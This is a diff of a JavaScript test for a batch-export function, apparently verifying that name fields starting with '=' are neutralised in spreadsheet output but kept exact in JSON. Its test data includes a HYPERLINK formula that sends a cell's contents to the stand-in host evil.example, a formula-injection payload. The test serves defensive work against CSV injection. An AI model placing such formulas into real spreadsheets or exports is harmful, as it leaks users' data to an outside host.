@@ -111,7 +111,7 @@ describe('writeDayBatch', () => {
     expect(rows.map((row) => row.firstName)).toContain(
       `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
     )
-    expect(rows.map((row) => row.firstName)).toContain(`'=1+1\n=2+2`)
+    expect(rows.map((row) => row.firstName)).toContain(`'=1+1;=2+2`)
     expect(raw.toString('utf8')).toContain(`,"'=HYPERLINK(""http://evil.example/`)
     // The JSON keeps the exact name: neutralising is for spreadsheets only.
     const json = JSON.parse(await readFile(join(folder, 'signatures.json'), 'utf8'))
